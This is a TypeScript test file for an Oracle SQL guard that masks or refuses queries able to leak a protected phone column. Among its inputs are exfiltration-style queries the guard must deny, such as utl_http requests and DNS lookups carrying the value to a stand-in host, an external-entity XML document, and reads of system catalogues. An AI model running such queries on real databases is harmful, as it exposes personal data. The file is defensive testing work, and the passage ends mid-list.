import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyse } from '../../analyse/analyser.js';
import { sqlGuard } from '../../commands/sql.commands.js';
import type { CatalogueSnapshot } from '../../contract/catalogue.type.js';
import { SqlRefusal } from '../../contract/sql.refusal.js';
import { filteredSql } from '../../filter/filtered.text.js';
import { pageSql, withholdSql } from '../../paging/paging.js';

/**
 * Shapes by which masked values have got out of other products (peers-dbaccess.md §3.4, B1 to B32; c is
 * CUSTOMER.PHONE), in the words of Oracle. Each is named as a source of the right column, or refused. None of them was
 * tried on a real server.
 */
const schema = {
  'ORCL.APP.CUSTOMER': ['ID', 'NAME', 'PHONE', 'ID_CARD', 'TAGS', 'PARENT'],
  'ORCL.APP.ORDERS': ['ID', 'CUSTOMER_ID', 'AMOUNT'],
  'ORCL.SECRET.CUSTOMER': ['ID', 'PHONE'],
};
const views = {
  'ORCL.APP.V': 'SELECT id, phone AS contact FROM customer',
  'ORCL.APP.VV': 'select contact a, id b from app.v with read only',
};
const sensitive = ['ORCL.APP.CUSTOMER.PHONE', 'ORCL.SECRET.CUSTOMER.PHONE'];
const guard = (sql: string) =>
  sqlGuard({ dialect: 'oracle', default_db: 'ORCL', default_schema: 'APP', schema, views, sensitive, sql });

/** The masked result columns by place, or that it is denied. */
type Expected = number[] | 'denied';

const shapes: [string, string, Expected][] = [
  ['SAMPLE of blocks', 'select c.phone from customer sample block (5) seed (7) c', [0]],
  ['SAMPLE of a value', 'select id from customer sample ((select max(phone) from customer)) seed (1)', []],
  ['a partition by its key', "select c.phone from customer partition for (date '2026-01-01') c", [0]],
  ['a subpartition of another time', 'select phone from customer subpartition (p) as of scn 5', [0]],
  ['a partition that is written', 'delete from customer partition (p1)', 'denied'],
  [
    'a partitioned outer join',
    'select o.id, c.phone from orders o partition by (o.customer_id) right outer join customer c on c.id = o.id',
    [1],
  ],
  [
    'a partitioned outer join without ON',
    'select id from orders partition by (amount) right join customer using (id)',
    'denied',
  ],
  ['VALUES', 'select b, a from (values (1, (select max(phone) from customer)), (2, 3)) v (a, b)', [0]],
  ['VALUES in WITH', 'with v (a, b) as (values (1, (select max(phone) from customer))) select b, a from v', [0]],
  ['VALUES without names', 'select * from (values (1, 2)) v', 'denied'],
  ['GROUP BY ALL', 'select name, max(phone) from customer group by all', [1]],
  ['GROUP BY ALL of a star', 'select c.*, count(*) from customer c group by all', 'denied'],
  [
    'a part of a document',
    'select c.tags.a, c.phone.a.b, c.phone.list[0].c, c.phone.d[*] x from customer c',
    [1, 2, 3],
  ],
  ['a part of a document in a condition', 'select id, case when c.phone.a = 1 then 1 end from customer c', [1]],
  ['a part of a document of a query', 'select d.p.a from (select phone p from customer) d', [0]],
  [
    'a part of a document or a column of a schema',
    'select (select secret.customer.phone from (select id as customer from orders) secret) from secret.customer',
    'denied',
  ],
  [
    'a part of a part, or of a column of a schema',
    'select (select secret.customer.phone.a from (select id as customer from orders) secret) from secret.customer',
    'denied',
  ],
  ['a method of a part', 'select c.phone.a.number() from customer c', 'denied'],
  ['a method behind a place', 'select c.phone.a[0].size() from customer c', 'denied'],
  ['a place that is computed', 'select c.tags.a[c.phone] from customer c', 'denied'],
  ['columns of a document', "select c.id, x from customer c nested phone columns (x, y path '$.b')", [1]],
  ['XMLELEMENT', 'select xmlelement("n", xmlattributes(phone as "p"), id), xmlelement(phone, id) from customer', [0]],
  [
    'XMLELEMENT with a made name',
    'select xmlelement(evalname phone, id), xmlforest(id as evalname phone) from customer',
    [0, 1],
  ],
  ['XMLELEMENT called NAME', 'select xmlelement(name phone, name), xmlelement(name, phone) from customer', [1]],
  ['XMLFOREST', 'select xmlforest(id as "phone", phone as "id"), xmlconcat(xmlcomment(phone)) from customer', [0, 1]],
  ['XMLAGG', 'select xmlagg(xmlelement("n", id) order by phone), xmlagg(xmlforest(phone)) from customer', [0, 1]],
  [
    'methods of XML',
    "select rtrim(xmlagg(xmlelement(e, phone || ',')).extract('//text()').getclobval(), ','), id from customer group by id",
    [0],
  ],
  ['methods of XML that are others', 'select xmlelement(e, id).transform(phone) from customer', 'denied'],
  ['XMLQUERY', "select xmlquery('/a/text()' passing phone returning content).getstringval() from customer", [0]],
  [
    'XMLQUERY of a table',
    'select xmlquery(\'fn:collection("oradb:/APP/CUSTOMER")\' returning content) from dual',
    'denied',
  ],
  [
    'XMLQUERY of a view',
    'select xmlquery(\'ora:view("CUSTOMER")\' passing tags returning content) from customer',
    'denied',
  ],
  ['XMLQUERY without a document', "select xmlquery('/a' returning content) from dual", 'denied'],
  ['XMLQUERY that is made', "select xmlquery('/a' || phone passing tags returning content) from customer", 'denied'],
  [
    'XMLCAST and XMLSERIALIZE',
    'select xmlcast(phone as varchar2(5)), xmlserialize(content phone as clob indent size = 2) from customer',
    [0, 1],
  ],
  ['a document with entities', 'select xmltype(\'<!DOCTYPE a SYSTEM "http://x"><a/>\') from dual', 'denied'],
  ['XMLPARSE', 'select xmlparse(content phone) from customer', 'denied'],
  ['SYS_CONTEXT', "select sys_context('USERENV', 'CURRENT_SCHEMA'), phone from customer", [1]],
  ['SYS_CONTEXT of who is there', "select sys_context('USERENV', 'IP_ADDRESS') from dual", 'denied'],
  ['SYS_CONTEXT of a value', "select sys_context('USERENV', phone) from customer", 'denied'],
  ['SYS_CONTEXT of another space', "select sys_context('MY', 'DB_NAME') from dual", 'denied'],
  [
    'a frame without its row',
    'select max(phone) over (order by id groups between 1 preceding and 1 following exclude ties) from customer',
    [0],
  ],
  [
    'TO_BOOLEAN and JSON_MERGEPATCH',
    "select to_boolean(phone), json_mergepatch('{}', phone), true, false from customer",
    [0, 1],
  ],
  ['B1 derived table', 'select x from (select phone as x from customer)', [0]],
  ['B1 two levels', 'select y from (select x y from (select phone x from customer) d) e', [0]],
  ['B2 star over star', 'select * from (select * from customer)', [2]],
  ['B2 star after a column', 'select 1, d.* from (select name, phone from customer) d', [2]],
  ['B3 CTE renamed', 'with x (a, b) as (select id, phone from customer) select b, a from x', [0]],
  ['B3 CTE over CTE', 'with x as (select phone p from customer), y as (select p q from X) select Q from y', [0]],
  [
    'B3 a later CTE is no table of an earlier one',
    'with a as (select id from b), b as (select 1 as id from dual) select * from a',
    'denied',
  ],
  [
    'B3 a later CTE does not hide a table',
    'with a as (select phone from customer), customer as (select 1 as phone from dual) select phone from a',
    [0],
  ],
  [
    'B3 recursive',
    "with r (n, p, q) as (select 1, phone, 'x' from customer union all select n + 1, q, p from r where n < 3) select q from r",
    [0],
  ],
  [
    'B3 SEARCH',
    'with r (n, p) as (select id, phone from customer union all select n + 1, p from r) search depth first by p set o select o from r',
    [0],
  ],
  ['B4 scalar subquery', 'select id, (select phone from customer c where c.id = o.customer_id) from orders o', [1]],
  [
    'B4 its condition',
    "select id, (select 1 from customer c where c.id = o.customer_id and phone like '138%') from orders o",
    [1],
  ],
  ['B5 union', 'select name from customer union all select phone from customer', [0]],
  ['B5 union in parentheses', '(select name from customer) union (select phone from customer) order by 1', [0]],
  ['B5 minus', "select '138' from dual minus select phone from customer", [0]],
  ['B5 intersect', "select '138' from dual intersect select phone from customer", [0]],
  ['B6 view', 'select contact from v', [0]],
  ['B6 view on view', 'select * from app.vv', [0]],
  ['B6 create a view, then read it', 'create view mine as select phone from customer', 'denied'],
  ['B7 function and alias', "select concat('', phone) as y, upper(phone) z, phone || '' from customer", [0, 1, 2]],
  ['B7 CASE', "select case when phone like '1%' then 'a' else 'b' end from customer", [0]],
  [
    'B7 DECODE and NVL2',
    "select decode(phone, '1', 'a', 'b'), nvl2(phone, 1, 0), nvl(phone, name) from customer",
    [0, 1, 2],
  ],
  [
    'B7 cast',
    'select cast(phone as raw(20)), to_number(phone), to_char(phone), rawtohex(phone) from customer',
    [0, 1, 2, 3],
  ],
  [
    'B7 hash and dump',
    'select ora_hash(phone), standard_hash(phone), dump(phone), vsize(phone) from customer',
    [0, 1, 2, 3],
  ],
  ['B7 collate and time zone', "select phone collate binary, phone at time zone 'UTC' from customer", [0, 1]],
  ['B7 a default of a conversion', 'select to_number(name default phone on conversion error) from customer', [0]],
  ['B8 two stars', 'select a.*, b.* from orders a join customer b on b.id = a.customer_id', [5]],
  ['B8 one star over a join', 'select * from orders a join customer b on b.id = a.customer_id', [5]],
  ['B8 USING', 'select * from orders join (select id, phone from customer) using (id)', [3]],
  [
    'B8 USING of the column',
    'select phone from customer join (select phone, id i from secret.customer) using (phone)',
    [0],
  ],
  [
    'B9 several joins',
    'select c2.phone, o.id, c1.name from customer c1 join orders o on o.customer_id = c1.id left join customer c2 on c2.id = o.id',
    [0],
  ],
  ['B9 joined outwards', 'select c.phone, o.id from orders o, customer c where c.id(+) = o.customer_id', [0]],
  [
    'B9 APPLY',
    'select o.id, x.p from orders o cross apply (select c.phone p from customer c where c.id = o.id) x',
    [1],
  ],
  ['B9 LATERAL', 'select o.id, x.p from customer o, lateral (select o.phone p from dual) x', [1]],
  [
    'B10 JSON_TABLE',
    "select j.a from customer c, json_table(c.phone, '$' columns (a varchar2(9) path '$.x', nested path '$.y' columns (b number path '$'))) j",
    [0],
  ],
  [
    'B10 XMLTABLE',
    "select x.a from customer c, xmltable('/a/b' passing c.phone columns a varchar2(9) path 'c') x",
    [0],
  ],
  ['B10 a function of XQuery', 'select * from xmltable(\'fn:collection("oradb:/APP/CUSTOMER")\')', 'denied'],
  [
    'B10 aggregates',
    "select listagg(phone, ','), listagg(name, ',') within group (order by phone), max(name) keep (dense_rank first order by phone), count(*) from customer",
    [0, 1, 2],
  ],
  [
    'B10 JSON',
    "select json_object('a' value phone), json_arrayagg(name order by phone), json_object(key 'b' value id) from customer",
    [0, 1],
  ],
  ['B10 a column called as a word of JSON', 'select json_array(value) from (select phone as value from customer)', [0]],
  ['B10 a column called as another', 'select json_array(error) from (select phone as error from customer)', [0]],
  ['B10 JSON of a whole row', 'select json_object(*) from customer', [0]],
  ['B10 XML of a query', "select dbms_xmlgen.getxml('select phone from customer') from dual", 'denied'],
  ['B10 XMLTYPE', 'select xmltype(phone) from customer', 'denied'],
  ['B10 a cursor', 'select cursor(select phone from customer) from dual', 'denied'],
  ['B11 writes give rows back', 'update customer set name = name returning phone into :p1', 'denied'],
  ['B12 into a table', 'create table copy as select phone from customer', 'denied'],
  ['B12 into a variable', 'select phone into x from customer', 'denied'],
  ['B12 insert select', 'insert into orders (id) select length(phone) from customer', 'denied'],
  ['B12 into several tables', 'insert all into orders (id) values (phone) select phone from customer', 'denied'],
  ['B11 a word behind a value that is given back', 'delete from customer returning old phone into :p1', 'denied'],
  ['B11 a star', 'delete from customer returning customer.* into :a', 'denied'],
  ['B13 error text: the column is named all the same', 'select phone + 0, 1 / length(phone) from customer', [0, 1]],
  ['B17 identity', 'select exp(ln(phone)), sqrt(phone * phone) from customer', [0, 1]],
  [
    'B18 hierarchy',
    "select sys_connect_by_path(phone, '/'), connect_by_root phone, prior phone, name from customer connect by prior id = parent",
    [0, 1, 2],
  ],
  [
    'B18 its conditions',
    'select level, connect_by_isleaf, id from customer start with phone = 1 connect by prior id = parent',
    [0, 1],
  ],
  ['B18 LEVEL of another query', 'select (select level from dual) from customer connect by prior phone = id', 'denied'],
  ['B20 the past', "select phone from customer as of timestamp systimestamp - interval '1' day", [0]],
  ['B20 the past of a query', 'select * from (select phone from customer) as of scn 1', 'denied'],
  ['B20 versions', 'select phone from customer versions between scn minvalue and maxvalue', 'denied'],
  ['B21 twice', 'select phone, phone from customer', [0, 1]],
  ['B22 case and quotes of one table', 'select PHONE, "PHONE", C.phone, App.Customer.phone from Customer c', 'denied'],
  ['B22 case and quotes', 'select PHONE, "PHONE", C.phone, "C"."PHONE" from Customer c', [0, 1, 2, 3]],
  ['B22 another name in quotes', 'select "phone" from customer', 'denied'],
  ['B22 its schema', 'select app.customer.phone from app.customer', [0]],
  ['B22 small letters outside ASCII', 'select é from customer', 'denied'],
  ['B22 full-width characters', 'select ｐｈｏｎｅ from customer', 'denied'],
  ['B22 a quote in a name', 'select "PHONE""x" from customer', 'denied'],
  ['B22 an unknown blank', 'select\u00a0phone from customer', 'denied'],
  ['B23 plans', 'explain plan for select phone from customer', [0]],
  ['B23 plans of questions', "explain plan for select id from customer where phone like '138%'", [0]],
  ['B23 plans kept elsewhere', 'explain plan into mine for select phone from customer', 'denied'],
  ['B23 plans under a name', "explain plan set statement_id = 'x' for select phone from customer", 'denied'],
  ['B23 plans of programs', 'explain plan for begin null; end;', 'denied'],
  ['B24 comments between words', 'sel/**/ect phone from customer', 'denied'],
  ['B24 comments around', 'select/**/phone/* /* x */from-- \n customer', [0]],
  ['B24 hints', 'select /*+ full(c) */ phone from customer c', [0]],
  ['B24 a carriage return in a comment', 'select id -- \r , phone from customer', 'denied'],
  ['B24 two statements', 'select 1 from dual; select phone from customer', 'denied'],
  ['B24 a slash', 'select 1 from dual\n/\nselect phone from customer', 'denied'],
  ['B24 a quote of its own', "select q'[' from customer where phone = ']', phone from customer", [1]],
  ['B24 a text that is none', "select nq'!', phone from customer --!' from customer", []],
  ['B25 another schema', 'select phone from secret.customer', [0]],
  ['B25 another database', 'select phone from customer@other', 'denied'],
  ['B25 a link behind a function', "select leak@other('x') from dual", 'denied'],
  ['B25 three parts', 'select phone from orcl.app.customer', 'denied'],
  ['B26 dynamic text', "begin execute immediate 'select phone from customer'; end;", 'denied'],
  ['B26 a block', 'declare x number; begin null; end;', 'denied'],
  ['B26 a label', '<<a>> begin null; end;', 'denied'],
  ['B26 a call', 'call leak()', 'denied'],
  ['B26 a function of its own', 'with function f return number is begin return 1; end; select f from dual', 'denied'],
  ['B26 a function of the database', 'select leak(id) from customer', 'denied'],
  ['B26 one without parentheses', 'select leak from customer', 'denied'],
  ['B26 one of a package', 'select pkg.leak(id), pkg.leak from customer', 'denied'],
  ['B26 a table function', 'select * from table(leak(1))', 'denied'],
  ['B26 a collection', 'select * from leak(1)', 'denied'],
  ['B26 a sequence', 'select s.nextval from dual', 'denied'],
  ['B26 a method', 'select c.tags.getclobval() from customer c', 'denied'],
  ['B26 an argument by its name', 'select upper(x => phone) from customer', 'denied'],
  ['B26 the network', "select utl_http.request('http://x/' || phone) from customer", 'denied'],
  ['B26 addresses', 'select utl_inaddr.get_host_address(phone) from customer', 'denied'],
  ['B26 waiting', 'select dbms_pipe.receive_message(phone, 5) from customer', 'denied'],
  ['B26 a URI', "select httpuritype('http://x').getclob() from dual", 'denied'],
  ['B26 a built-in by its package', 'select sys.standard.upper(phone) from customer', 'denied'],
  ['B27 statistics', 'select high_value from all_tab_columns', 'denied'],
  ['B27 running statements', 'select sql_text from v$sql', 'denied'],
  ['B27 the catalogue', 'select * from sys.user$', 'denied'],
  ['B28 the session', "select sys_context('USERENV', 'CLIENT_INFO'), userenv('SESSIONID') from dual", 'denied'],
  ['B28 a bind by name', 'select :phone from customer', 'denied'],
  ['B28 a variable of the client', 'select &x from customer', 'denied'],
  ['B31 update into another column', 'update customer set name = phone', 'denied'],
  ['B31 several', 'update customer set (name, tags) = (select phone, 1 from dual)', 'denied'],
  ['B32 client commands', 'spool x', 'denied'],
  ['PIVOT', 'select * from customer pivot (max(phone) for id in (1, 2))', [4, 5]],
  [
    'PIVOT over a query',
    'select b, a from (select id, phone from customer) pivot (max(phone) for id in (1 a, 2 as b)) p',
    [0, 1],
  ],
  ['PIVOT of several', 'select a_n, a_m from customer pivot (count(id) n, max(phone) as m for name in (1 as a))', [1]],
  ['PIVOT by it', "select * from (select id, phone from customer) pivot (count(id) for phone in ('138' as a))", [0]],
  ['PIVOT by several', "select a from customer pivot (max(id) for (name, phone) in (('x', '138') as a))", [0]],
  ['PIVOT of more', 'select * from customer pivot (max(phone || id) for name in (1 as a))', [3]],
  [
    'PIVOT of joined tables',
    'select p.phone from (customer c join orders o on o.id = c.parent) pivot (max(amount) for tags in (1 as a)) p',
    [0],
  ],
  [
    'PIVOT of a name with its table',
    'select * from customer pivot (max(customer.phone) for name in (1 as a))',
    'denied',
  ],
  [
    'PIVOT of a query in it',
    'select * from customer pivot (max((select phone from customer)) for name in (1 as a))',
    'denied',
  ],
  ['PIVOT of a column that is gone', 'select phone from customer pivot (max(phone) for name in (1 as a))', 'denied'],
  ['PIVOT by a query', 'select * from customer pivot (max(id) for name in (select phone from customer))', 'denied'],
  ['PIVOT behind a name', 'select * from customer c pivot (max(phone) for name in (1 as a))', 'denied'],
  ['PIVOT XML', 'select * from customer pivot xml (max(phone) for name in (any))', 'denied'],
  ['UNPIVOT', 'select * from customer unpivot (x for y in (name, phone))', [5]],
  [
    'UNPIVOT of several',
    "select y, b, a from customer unpivot include nulls ((a, b) for y in ((name, phone) as 'p', (tags, id) as 'q')) u",
    [1],
  ],
  ['UNPIVOT of a column that is gone', 'select phone from customer unpivot (x for y in (name, phone))', 'denied'],
  ['MODEL', 'select * from customer model dimension by (id) measures (phone) rules (phone[1] = phone[2])', 'denied'],
  [
    'MATCH_RECOGNIZE',
    'select * from customer match_recognize (order by id measures a.phone as p pattern (a) define a as 1 = 1)',
    'denied',
  ],
  ['SAMPLE', 'select phone from customer sample (10)', [0]],
  ['a partition', 'select phone from customer partition (p1)', [0]],
  ['row locks', 'select id from customer for update', 'denied'],
  ['whole rows by ROWID', 'select rowid, ora_rowscn, rownum from customer', [0, 1]],
  ['odd names', 'select "UPPER(PHONE)" from (select upper(phone) from customer)', [0]],
  [
    'a name of its own text',
    'select casephonewhen1then2end from (select case phone when 1 then 2 end from customer)',
    [0],
  ],
  ['a number runs into a name', 'select 1phone from customer', 'denied'],
  ['a computed column', 'create table t (id number, p as (id + 1))', 'denied'],
  ['a column before a clock of its name', 'select systimestamp from (select phone as systimestamp from customer)', [0]],
  [
    'window',
    'select lag(phone) over (order by id), row_number() over w from customer window w as (order by phone)',
    [0, 1],
  ],
];

describe('shapes that have leaked elsewhere, on Oracle', () => {
  it.each(shapes)('%s: %s', async (_name, sql, expected) => {
    const answer = await guard(sql);
    if (expected === 'denied') expect(answer, sql).toMatchObject({ decision: 'deny' });
    else expect(answer, answer.reason).toMatchObject({ decision: 'allow', masked: expected });
  });

  it.each<[string, string]>([
    ['WHERE', "select id from customer where phone like '138%'"],
    ['a subquery', "select id from orders where customer_id in (select id from customer where phone > '1')"],
    ['EXISTS', 'select o.id from orders o where exists (select 1 from customer c where c.phone = o.amount)'],
    ['a view', "select count(*) from v where contact like '1%'"],
    ['GROUP BY', 'select count(*) from customer group by substr(phone, 1, 3)'],
    ['GROUP BY an alias', 'select phone p, count(*) from customer group by p'],
    ['grouping sets', 'select count(*) from customer group by grouping sets ((id, phone), ())'],
    ['HAVING', "select id from customer group by id having max(phone) > '5'"],
    ['HAVING before GROUP BY', "select id from customer having max(phone) > '5' group by id"],
    ['ORDER BY', 'select id from customer order by phone'],
    ['ORDER BY an alias', 'select id, phone as p from customer order by p'],
    ['ORDER BY a value of an alias', "select id, phone as p from customer order by p || 'x'"],
    ['ORDER BY a place', 'select id, phone from customer order by 2'],
    ['ORDER SIBLINGS BY', 'select id from customer connect by prior id = parent order siblings by phone'],
    ['DISTINCT', 'select distinct phone from customer'],
    ['JOIN', 'select o.id from orders o join customer c on c.phone = o.amount'],
    ['an outer join by its mark', 'select o.id from orders o, customer c where c.phone(+) = o.amount'],
    ['NATURAL', 'select c.id from customer c natural join secret.customer'],
    ['CONNECT BY', 'select id from customer connect by prior phone = parent'],
    ['START WITH', "select id from customer start with phone > '5' connect by prior id = parent"],
    ['APPLY', "select o.id from orders o cross apply (select 1 as x from customer c where c.phone > '5') l"],
    ['rows made from it', "select c.id from customer c, json_table(c.phone, '$[*]' columns (a number path '$')) s"],
    ['FETCH', 'select id from orders fetch first (select max(length(phone)) from customer) rows only'],
    ['a set operation', 'select name from customer minus select phone from customer'],
    ['a window', 'select id, count(*) over (partition by phone) from customer'],
    [
      'a partitioned outer join',
      'select o.id from customer c partition by (c.phone) right join orders o on o.id = c.id',
    ],
    ['a part of a document', "select id from customer c where c.phone.a = 'x'"],
    ['XMLEXISTS', "select id from customer where xmlexists('/a' passing phone)"],
    ['SAMPLE of a value', 'select id from customer sample ((select max(phone) from customer)) seed (1)'],
    ['KEEP', 'select max(id) keep (dense_rank first order by phone) from customer'],
    ['PIVOT by it', "select a from (select id, phone from customer) pivot (count(id) for phone in ('138' as a))"],
    ['groups of PIVOT', 'select a from (select id, name, phone from customer) pivot (count(id) for name in (1 as a))'],
    ['rows of UNPIVOT', 'select id from customer unpivot (x for y in (name, phone))'],
    ['MERGE', 'merge into orders o using customer c on (o.id = c.phone) when matched then update set amount = 1'],
    [
      'MERGE of some',
      "merge into orders o using customer c on (o.id = c.id) when matched then update set amount = 1 where c.phone > '5'",
    ],
  ])('names what decides over the rows: %s', async (_shape, sql) => {
    expect((await guard(sql)).predicates).toContain('ORCL.APP.CUSTOMER.PHONE');
  });

  const table = (name: string, columns: Record<string, string>, owner = 'APP') => ({
    schema: owner,
    name,
    kind: 'table' as const,
    columns: Object.keys(columns),
    columnTypes: Object.values(columns),
  });
  const catalogue: CatalogueSnapshot = {
    version: 'oracle-1',
    database: 'ORCL',
    searchPath: ['APP'],
    relations: [
      table('CUSTOMER', { ID: 'NUMBER', PHONE: 'VARCHAR2(20)', BORN: 'DATE' }),
      table('SALARY', { ID: 'NUMBER', AMOUNT: 'NUMBER' }, 'HR'),
      table('DUAL', { DUMMY: 'VARCHAR2(1)' }, 'HR'),
    ],
    synonyms: [
      { schema: 'APP', name: 'PAY', target: { schema: 'PUBLIC', name: 'PAYROLL' } },
      { schema: 'PUBLIC', name: 'PAYROLL', target: { schema: 'HR', name: 'SALARY' } },
      { schema: 'PUBLIC', name: 'CUSTOMER', target: { schema: 'HR', name: 'SALARY' } },
      { schema: 'PUBLIC', name: 'DUAL', target: { schema: 'SYS', name: 'DUAL' } },
      { schema: 'APP', name: 'FAR', target: { schema: 'X@LINK', name: 'T' } },
      { schema: 'PUBLIC', name: 'FAR', target: { schema: 'HR', name: 'SALARY' } },
      { schema: 'PUBLIC', name: 'ALL_TABLES', target: { schema: 'SYS', name: 'ALL_TABLES' } },
      { schema: 'PUBLIC', name: 'A', target: { schema: 'PUBLIC', name: 'B' } },
      { schema: 'PUBLIC', name: 'B', target: { schema: 'PUBLIC', name: 'A' } },
    ],
  };
  const tables = async (sql: string, of = catalogue) =>
    (await analyse('oracle', sql, of)).tables.map(({ schema: owner, name }) => `${owner}.${name}`);

  it('follows synonyms, those of the schema before public ones', async () => {
    expect(await tables('select amount from pay')).toEqual(['HR.SALARY']);
    expect(await tables('select id from payroll p where p.amount > 1')).toEqual(['HR.SALARY']);
    expect(await tables('select phone from customer')).toEqual(['APP.CUSTOMER']);
    expect(await tables('select 1 from dual, sys.dual d')).toEqual([]);
    for (const [sql, code] of [
      ['select * from far', 'unknown-table'],
      ['select * from all_tables', 'system-object'],
      ['select * from a', 'unknown-table'],
    ] as const)
      await expect(tables(sql), sql).rejects.toMatchObject({ code });
  });

  it('takes a table called DUAL for what it is', async () => {
    const own = { ...catalogue, version: 'oracle-2', searchPath: ['HR'] };
    expect(await tables('select dummy from dual', own)).toEqual(['HR.DUAL']);
    expect(await tables('select dummy from sys.dual', own)).toEqual([]);
  });

  const observed = async (sql: string) =>
    (await analyse('oracle', sql, catalogue)).observed.map(({ column }) => column.column);

  it('names what an error could tell of', async () => {
    for (const sql of [
      'select id from customer where phone = 5',
      'select id from customer where phone = id',
      'select id from customer where to_number(phone) > 0',
      'select id from customer where 1 / length(phone) > 0',
      'select case when id = 1 then phone else 0 end from customer',
      "select decode(phone, '1', 1, 2) from customer",
      'select phone from customer union all select id from customer',
      'select sum(length(phone)) from customer',
      'select nvl(phone, id) from customer',
      'select id from customer where phone in (1, 2)',
      "select substr('a', phone) from customer",
      'select ntile(phone) over (order by id) from customer',
      "select to_date(phone, 'YYYY') from customer",
      'select id from customer where id in (select phone from customer)',
      "select listagg(phone, ',') from customer",
      "select phone || phone || '1' || born from customer",
    ])
      expect(await observed(sql), sql).toContain('PHONE');
    for (const sql of [
      "select upper(substr(phone, 1, 3)), substr(phone, -4), phone || 'x' from customer where phone = 'a' and length(phone) > 3",
      "select case when id = 1 then phone else 'x' end, last_day(born) from customer where id in (1, 2)",
      "select phone, count(*), max(phone), nvl(phone, 'x') from customer group by phone",
      'select phone from customer union all select phone from customer',
    ])
      expect(await observed(sql), sql).not.toContain('PHONE');
  });

  it('pages and withholds without AS before the name of a table', () => {
    expect(pageSql('oracle', 'select id from customer order by id', { limit: 10, offset: 20 }).text).toBe(
      'select id from customer order by id\nOFFSET 20 ROWS FETCH NEXT 10 ROWS ONLY',
    );
    expect(pageSql('oracle', 'select id from customer fetch first 9 rows only', { limit: 1, offset: 0 }).text).toBe(
      'SELECT * FROM (\nselect id from customer fetch first 9 rows only\n) "page" OFFSET 0 ROWS FETCH NEXT 1 ROWS ONLY',
    );
    expect(
      withholdSql('oracle', 'select id, phone from customer', [
        { name: 'ID', withheld: false },
        { name: 'PHONE', withheld: true },
      ]).text,
    ).toBe(
      'WITH "page" ("c1", "c2") AS (\nselect id, phone from customer\n) SELECT "c1" AS "ID", NULL AS "PHONE" FROM "page"',
    );
  });

  it('filters rows, and refuses what it cannot', async () => {
    const filtered = [{ schema: 'APP', name: 'CUSTOMER', columns: ['PHONE'] }];
    const edit = async (sql: string) => {
      const { filterEdits = [] } = await analyse('oracle', sql, catalogue, { filtered });
      return filteredSql('oracle', sql, filterEdits, [[{ column: 'PHONE' }, ' = ', { value: 'x' }]], 1).text;
    };
    expect(await edit('select id from Customer where id = :p1')).toBe(
      'select id from (SELECT "sluice_row".* FROM Customer "sluice_row" WHERE ("sluice_row"."PHONE" = :p2) OFFSET 0 ROWS FETCH NEXT 9007199254740991 ROWS ONLY)  "CUSTOMER" where id = :p1',
    );
    expect(await edit('update customer set born = null where id = :p1')).toBe(
      'update customer set born = null WHERE CASE WHEN ("CUSTOMER"."PHONE" = :p2) THEN CASE WHEN ( id = :p1\n) THEN 1 ELSE 0 END ELSE 0 END = 1 ',
    );
    // Before PIVOT no name may stand.
    expect(await edit("select a from customer pivot (max(id) for born in (date '2026-01-01' as a))")).toMatch(
      /9007199254740991 ROWS ONLY\)  ?pivot \(/,
    );
    for (const sql of [
      'select id from customer as of scn 1',
      'merge into customer c using (select 1 as id from dual) s on (s.id = c.id) when matched then update set born = null',
    ])
      await expect(edit(sql), sql).rejects.toMatchObject({ code: 'row-filter' });
  });

  it('masks literals beside a column, and binds', async () => {
    const sql = "select id from customer where phone = nq'[138]' and born in (date '2026-01-01', :p1)";
    const { literals, binds } = await analyse('oracle', sql, catalogue);
    expect(literals.map(({ start, end, column }) => [sql.slice(start, end), column?.column])).toEqual([
      ["nq'[138]'", 'PHONE'],
      ["'2026-01-01'", 'BORN'],
    ]);
    expect(binds).toEqual([{ number: 1, column: { schema: 'APP', table: 'CUSTOMER', column: 'BORN' } }]);
  });

  const writesOf = async (sql: string) => {
    const { writes, predicates, tables: used, kind, readOnly } = await analyse('oracle', sql, catalogue);
    expect({ kind, readOnly }).toEqual({ kind: 'INSERT', readOnly: false });
    const name = ({ table: of, column }: { table: string; column: string }) => `${of}.${column}`;
    return {
      writes: writes.flatMap(({ target, sources }) => sources.map((source) => `${name(target)} < ${name(source)}`)),
      predicates: [...new Set(predicates.map(({ column }) => name(column)))].sort(),
      tables: used
        .map(({ name: of, access, columns }) => `${access} ${of} ${[...columns].sort().join(' ')}`.trim())
        .sort(),
    };
  };

  it('follows values into each table of INSERT ALL, by name and by place', async () => {
    expect(
      await writesOf(
        'insert all into hr.salary (id, amount) values (n, length(p)) into hr.dual select id n, phone p from customer where born is null',
      ).catch((error: Error) => error.message),
    ).toBe('INSERT has more values than columns');
    expect(
      await writesOf(
        'insert all into hr.salary (id, amount) values (n, length(p)) into hr.salary select id n, phone p from customer where born is null',
      ),
    ).toEqual({
      writes: [
        'SALARY.ID < CUSTOMER.ID',
        'SALARY.AMOUNT < CUSTOMER.PHONE',
        'SALARY.ID < CUSTOMER.ID',
        'SALARY.AMOUNT < CUSTOMER.PHONE',
      ],
      predicates: ['CUSTOMER.BORN'],
      tables: ['read CUSTOMER BORN ID PHONE', 'write SALARY AMOUNT ID'],
    });
  });

  it('names what decides into which table a row of INSERT FIRST goes', async () => {
    const sql = (condition: string) =>
      `insert first when ${condition} then into hr.salary (id) values (n) else into hr.dual (dummy) values ('x') select id n, phone p from customer`;
    expect((await writesOf(sql("p like '138%'"))).predicates).toEqual(['CUSTOMER.PHONE']);
    expect((await writesOf(sql('exists (select 1 from hr.salary s where s.amount > n)'))).predicates).toEqual([
      'CUSTOMER.ID',
      'SALARY.AMOUNT',
    ]);
    expect((await writesOf(sql('n > 1'))).tables).toEqual([
      'read CUSTOMER ID PHONE',
      'write DUAL DUMMY',
      'write SALARY ID',
    ]);
    expect((await writesOf(sql('n > 1').replace('first', ''))).predicates).toEqual(['CUSTOMER.ID']);
  });

  it.each([
    [
      'a column of the target',
      'insert all into hr.salary (id) values (amount) select id from customer',
      'unknown-column',
    ],
    [
      'a column behind the query',
      'insert all into hr.salary (id) values (phone) select id from customer',
      'unknown-column',
    ],
    [
      'a table behind the query',
      'insert all into hr.salary (id) values (customer.phone) select id from customer',
      'unknown-alias',
    ],
    [
      'a column that the table lacks',
      'insert all into hr.salary (phone) values (1) select 1 from dual',
      'unknown-column',
    ],
    [
      'more values than columns',
      'insert all into hr.salary (id) values (1, 2) select 1 from dual',
      'wrong-column-count',
    ],
    ['no query', 'insert all into hr.salary (id) values (1)', 'syntax-error'],
    ['no table', 'insert all select id from customer', 'syntax-error'],
    ['FIRST without a condition', 'insert first into hr.salary (id) values (1) select 1 from dual', 'syntax-error'],
    ['a query as its table', 'insert all into (select id from hr.salary) values (1) select 1 from dual', 'unsupported'],
